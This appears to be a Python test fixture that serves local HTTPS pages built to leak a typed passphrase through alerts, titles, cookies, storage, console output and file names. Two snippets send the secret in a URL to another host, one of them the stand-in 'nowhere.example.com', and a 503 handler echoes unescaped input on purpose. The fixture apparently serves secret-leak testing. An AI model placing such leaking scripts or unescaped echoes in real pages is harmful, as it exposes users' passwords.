"""A page that leaks what is typed into it, in every way that a page has."""

from __future__ import annotations

import ssl
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from datetime import UTC, datetime
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.parse import urlsplit

from handrail_practice.authority import Validity, named, self_signed
from handrail_practice.certificate import key_pem, pem, pin

LEAKS = {
    "in an alert": "alert('It is ' + typed)",
    "in a question": "confirm(typed)",
    "in a new window": "open('/?typed=' + encodeURIComponent(typed))",
    "to another host": "location = 'http://127.0.0.1/?typed=' + encodeURI(typed)",
    "to a host that is not there": "location = 'https://nowhere.example.com/?typed=' + encodeURIComponent(typed)",
    "in its address": "location = '/?typed=' + encodeURIComponent(typed)",
    "in its path": "location = '/' + encodeURIComponent(typed)",
    "behind its address": "location.hash = typed",
    "in its title": "document.title = typed",
    "in its text": "output.textContent = 'It is ' + typed",
    "on a button": "output.innerHTML = '<button></button>'; output.firstChild.textContent = typed",
    "on a button with a long name": (
        "for (let long = 20; long < 140; long += 8) {"
        " const button = output.appendChild(document.createElement('button'));"
        " button.textContent = 'x'.repeat(long) + typed; }"
    ),
    "in a long alert": "for (const long of [60, 100, 140, 180]) { output.insertAdjacentHTML('beforeend', '<p role=alert></p>');"
    " output.lastChild.textContent = 'x'.repeat(long) + typed; }",
    "as a label": "output.innerHTML = '<input>'; output.firstChild.ariaLabel = typed; output.firstChild.title = typed",
    "as JSON and in base64": "output.textContent = JSON.stringify({typed}) + btoa(unescape(encodeURIComponent(typed)))",
    "in the name of a file": "const a = document.createElement('a'); a.download = typed; a.href = 'data:,a'; a.click()",
    "to the console": "console.error('It is', typed); setTimeout(() => { throw new Error(typed) })",
    "in a cookie": "document.cookie = 'typed=' + encodeURIComponent(typed); localStorage.typed = typed; location = '/cookie'",
    "to a server that answers 503": "document.forms[0].submit()",
}
"""The script of the button by how the page leaks. `typed` is the text, `output` an element of the page."""

PAGE = """<!DOCTYPE html><title>Talk</title>{charset}<form method=post action=/echo onsubmit="return false">
<label>Passphrase <input name=typed type=password></label>
<button onclick="leak(document.forms[0].typed.value)">Talk</button></form>
<div id=output></div><script>function leak(typed) {{ {leak} }}</script>"""


class LeakyPages(BaseHTTPRequestHandler):
    def do_GET(self) -> None:  # the name that http.server calls
        number = urlsplit(self.path).path.removeprefix("/")
        leak = list(LEAKS.values())[int(number)] if number.isdigit() else ""
        charset = "" if leak == LEAKS["to a server that answers 503"] else "<meta charset=utf-8>"
        self._answer(200, PAGE.format(leak=leak, charset=charset).encode())

    def do_POST(self) -> None:
        body = self.rfile.read(int(self.headers["Content-Length"]))
        self._answer(503, b"<!DOCTYPE html><p role=alert>Too busy for " + body)

    def _answer(self, status: int, body: bytes) -> None:
        self.send_response(status)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, format: str, *args: object) -> None:
        """Print nothing."""


@contextmanager
def _serve_pages(context: ssl.SSLContext) -> Iterator[int]:
    """Serve the pages; gives the port. The path of a page is the number of its leak in `LEAKS`."""
    server = ThreadingHTTPServer(("127.0.0.1", 0), LeakyPages)
    server.socket = context.wrap_socket(server.socket, server_side=True)
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    try:
        yield server.server_address[1]
    finally:
        server.shutdown()
        thread.join()
        server.server_close()


INVENTORY = """\
appliances:
  primary:
    url: https://{host}/
    username: admin
    password: {{file: primary.password}}
    tls: {{pin: {pin}}}
    resolve: 127.0.0.1:{port}
pairs:
  practice: {{primary: primary}}
"""
HOST = "talk.example.com"


@contextmanager
def serve_leaky_appliance(folder: Path) -> Iterator[Path]:
    """Serve an appliance that consists of such pages; gives the inventory."""
    holder = self_signed(named(HOST), [HOST], Validity.around(datetime.now(UTC), 30, 300))
    file = folder / "talk.pem"
    file.write_text(key_pem(holder.key) + pem(holder.certificate))
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(file)
    with _serve_pages(context) as port:
        inventory = folder / "inventory.yaml"
        inventory.write_text(INVENTORY.format(host=HOST, pin=pin(holder.certificate), port=port))
        yield inventory
